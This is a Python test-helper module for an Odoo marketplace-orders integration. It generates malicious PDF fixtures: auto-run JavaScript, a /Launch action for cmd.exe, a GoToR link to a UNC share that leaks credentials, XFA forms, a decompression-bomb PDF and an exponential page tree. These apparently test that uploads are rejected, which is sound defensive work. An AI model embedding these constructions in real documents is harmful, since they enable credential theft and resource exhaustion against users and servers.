"""Orders with documents, and files of every kind."""

import io
import zlib

from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from odoo.tools.pdf import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    PdfFileReader,
    PdfFileWriter,
    createStringObject,
)

from .orders import LengowCase, payload


def pdf(*pages, password=None):
    """Return a PDF with a line of text on each page.

    :param str password: what opens it
    """
    encryption = password is not None and StandardEncryption(
        password, ownerPassword="owner", strength=128
    )
    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=encryption or None)
    for text in pages or ("A page",):
        canvas.drawString(50, 700, text)
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def pdf_with(change):
    """Return a PDF whose writer was changed by a function."""
    writer = PdfFileWriter()
    writer.add_page(PdfFileReader(io.BytesIO(pdf()), strict=False).pages[0])
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _script_action():
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): createStringObject("app.alert(1)"),
        }
    )


def script(writer):
    """Run a script when the file is opened."""
    writer._root_object[NameObject("/OpenAction")] = _script_action()


def launch(writer):
    """Start a program when the file is opened."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): createStringObject("cmd.exe"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def hidden_script(writer):
    """Run a script when a page is shown."""
    action = writer._add_object(_script_action())
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def opens_web_page(writer):
    """Open a web page when the file is opened."""
    writer._root_object[NameObject("/OpenAction")] = _web_action()


def link_to_web_page(writer):
    """Offer a link that somebody may click, as most invoices do."""
    link = DictionaryObject(
        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _web_action()}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _web_action():
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): createStringObject("https://example.com"),
        }
    )


def file_on_a_share(writer):
    """Open a file on another computer, which learns the user's password by it."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): createStringObject("\\\\192.0.2.1\\share\\a.pdf"),
        }
    )
    link = DictionaryObject({NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def form_with_scripts(writer):
    """Bring a form of Adobe's, which has scripts of its own."""
    form = DictionaryObject({NameObject("/XFA"): createStringObject("<xdp/>")})
    writer._root_object[NameObject("/AcroForm")] = form


def swollen_pdf(megabytes):
    """Return a small PDF whose first object lies behind megabytes of blanks."""
    objects = b"1 0 " + b" " * (megabytes << 20) + b"<</Type/Catalog/Pages 2 0 R>>"
    packed = zlib.compress(objects, 9)
    content = b"%PDF-1.5\n"
    starts = []
    for number, head, stream in (
        (2, b"<</Type/Pages/Kids[]/Count 0>>", None),
        (3, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>", packed),
        (4, b"<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>", bytes(35)),
    ):
        starts.append(len(content))
        if number == 4:
            entries = [(0, 0, 65535), (2, 3, 0), *((1, start, 0) for start in starts)]
            stream = b"".join(
                kind.to_bytes(1) + start.to_bytes(4) + index.to_bytes(2)
                for kind, start, index in entries
            )
        content += b"%d 0 obj\n" % number
        content += head % len(stream) if stream else head
        content += b"\nstream\n%s\nendstream" % stream if stream else b""
        content += b"\nendobj\n"
    return content + b"startxref\n%d\n%%%%EOF\n" % starts[-1]


def pdf_of_shared_pages(levels=8, width=10):
    """Return a PDF whose tree of pages shares its branches: width ** levels pages."""
    content = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    starts = [9]
    for level in range(levels):
        starts.append(len(content))
        kids = b"%d 0 R " % (level + 3) * width
        content += b"%d 0 obj\n<</Type/Pages/Count 1/Kids[%s]>>\nendobj\n" % (
            level + 2,
            kids,
        )
    starts.append(len(content))
    content += b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % (levels + 2)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    return (
        content
        + b"xref\n0 %d\n0000000000 65535 f \n%s"
        % (
            len(starts) + 1,
            table,
        )
        + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            len(starts) + 1,
            len(content),
        )
    )


def png_without_picture():
    """Return a PNG that ends before its picture begins."""
    return image()[:33] + b"\0\0\0\0IEND\xaeB`\x82"


def image(kind="PNG", size=(40, 20), mode="RGB"):
    """Return an image of one color; one of many pixels is made fast in mode `1`."""
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind)
    return buffer.getvalue()


def texts_of(content):
    """Return the text of each page of a PDF."""
    reader = PdfFileReader(io.BytesIO(content), strict=False)
    return [page.extract_text() for page in reader.pages]


class DocumentCase(LengowCase):
    """Orders whose marketplace provides documents."""

    def put_with_documents(self, *files, number="A-1", **values):
        """Put an order with documents into the sandbox.

        :param files: pairs of a file name and its content; or only the name
        :return: the documents of the sandbox
        """
        order = self.put(payload(number, **values))
        record = self.sandbox.find("amazon_fr", number, 4242)
        documents = []
        for file in files:
            name, content = (file, pdf(file)) if isinstance(file, str) else file
            document = self.sandbox.documents.add(record, name, content)
            documents.append(document)
            record.payload["documents"].append(
                {"id": document.id, "name": name, "type": name.partition(".")[0]}
            )
        self.assertEqual(record.payload["marketplace_order_id"], number)
        self.assertTrue(order)
        return documents

    def order_with_documents(self, *files, number="A-1", fetch=True, **values):
        """Return the row of an order with documents, by default with their files."""
        self.put_with_documents(*files, number=number, **values)
        self.sync()
        order = self.order(number)
        if fetch:
            order.document_ids.action_fetch()
        return order

    def print_pdf(self, records, user=None, **values):
        """Return the bytes of the PDF that prints documents or orders."""
        job = (
            self.env["lengow.document.print"]
            .with_user(user or self.user)
            .create({"res_model": records._name, "res_ids": records.ids, **values})
        )
        self.assertEqual(job.action_print()["url"], f"/lengow/documents/print/{job.id}")
        with job._write_pdf() as file:
            file.seek(0)
            return file.read()
